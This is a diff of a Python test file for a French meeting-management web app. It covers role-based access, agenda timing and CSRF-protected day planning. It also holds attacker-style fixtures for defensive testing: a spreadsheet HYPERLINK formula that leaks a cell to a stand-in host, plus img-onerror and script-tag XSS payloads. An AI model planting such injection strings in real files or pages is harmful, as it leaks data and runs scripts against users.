@@ -7,6 +7,7 @@ from io import BytesIO
 
 from openpyxl import load_workbook
 from pypdf import PdfReader
+from sqlalchemy import text
 
 from tests.meeting.support import PASSWORD, SmallCampaign, login
 
@@ -113,31 +114,53 @@ def test_meeting_access(client, small_campaign: SmallCampaign) -> None:
     page = client.get(f"/reunion/{small_campaign.id}", follow_redirects=False)
     assert page.status_code == 303
     assert page.headers["location"] == f"/connexion?next=/reunion/{small_campaign.id}"
-    for role in ("commune", "other_admin"):
-        login(client, small_campaign.emails[role], PASSWORD)
-        assert client.get(url).status_code == 403, role
-        assert client.get(f"/api/campaigns/{small_campaign.id}/agenda.pdf").status_code == 403
-        client.cookies.clear()
+    login(client, small_campaign.emails["other_admin"], PASSWORD)
+    assert client.get(url).status_code == 403
+    assert client.get(f"/api/campaigns/{small_campaign.id}/agenda.pdf").status_code == 403
+    client.cookies.clear()
+    # A commune follows the meeting within its rights: the residences of its commune only.
+    login(client, small_campaign.emails["commune"], PASSWORD)
+    own = client.get(url).json()
+    assert [r["code"] for r in own["residences"]] == ["R1", "R3", "R2", "R4"]
+    assert own["campaign"]["can_record"] is False
+    sessions = client.get(f"/api/campaigns/{small_campaign.id}/agenda").json()["sessions"]
+    assert [(s["commune_name"], s["start"]) for s in sessions] == [
+        ("Arras", "09:08"),  # timed as for everybody: Achicourt's slot comes first
+        ("Arras", "09:19"),
+    ]
+    with small_campaign.engine.begin() as conn:
+        conn.execute(text("UPDATE campaign SET status = 'grading'"))
+    assert client.get(url).status_code == 403  # grades stay blind while grading
+    with small_campaign.engine.begin() as conn:
+        conn.execute(text("UPDATE campaign SET status = 'harmonisation'"))
+    client.cookies.clear()
     login(client, small_campaign.emails["elu"])
     assert client.get(url).status_code == 200
     assert client.get(f"/api/campaigns/{small_campaign.id + 99}/divergences").status_code == 404
 
 
 def test_meeting_pages_render(client, small_campaign: SmallCampaign) -> None:
-    login(client, small_campaign.emails["admin"])
+    csrf = login(client, small_campaign.emails["admin"])
     screen = client.get(f"/reunion/{small_campaign.id}")
     assert screen.status_code == 200
     assert 'data-can-record="true"' in screen.text
-    agenda = client.get(f"/reunion/{small_campaign.id}/ordre-du-jour?minutes_per_residence=4")
+    planned = client.patch(
+        f"/api/campaigns/{small_campaign.id}/day",
+        json={"expected_version": 0, "minutes_per_residence": 4},
+        headers={"X-CSRF-Token": csrf},
+    )
+    assert planned.status_code == 200, planned.text
+    agenda = client.get(f"/reunion/{small_campaign.id}/ordre-du-jour")
     assert agenda.status_code == 200
     assert "Achicourt × Alpha Habitat" in agenda.text
-    assert f"/api/campaigns/{small_campaign.id}/agenda.pdf?minutes_per_residence=4" in agenda.text
+    assert f"/api/campaigns/{small_campaign.id}/agenda.pdf" in agenda.text
     assert "09:00–09:09" in agenda.text
+    assert 'id="day-settings"' in agenda.text  # the administrator plans the day
     client.cookies.clear()
-    login(client, small_campaign.emails["commune"])
+    login(client, small_campaign.emails["other_admin"])
     refused = client.get(f"/reunion/{small_campaign.id}")
     assert refused.status_code == 403
-    assert "réservée à l'administrateur" in html.unescape(refused.text)
+    assert "ne concerne pas votre périmètre" in html.unescape(refused.text)
 
 
 HOSTILE_NAME = '=HYPERLINK("http://exemple.test/?v="&A1;"Voir") <img src=x onerror=alert(1)>'
@@ -147,8 +170,6 @@ HOSTILE_RATIONALE = "+1+1 <script>alert(2)</script> $\\frac{1}{0}$"
 
 def _make_hostile(small_campaign: SmallCampaign) -> None:
     """R3 (harmonised) and R1 get names, addresses and a rationale written by an attacker."""
-    from sqlalchemy import text
-
     with small_campaign.engine.begin() as conn:
         conn.execute(
             text("UPDATE residence SET name = :n, address = :a WHERE code IN ('R1', 'R3')"),
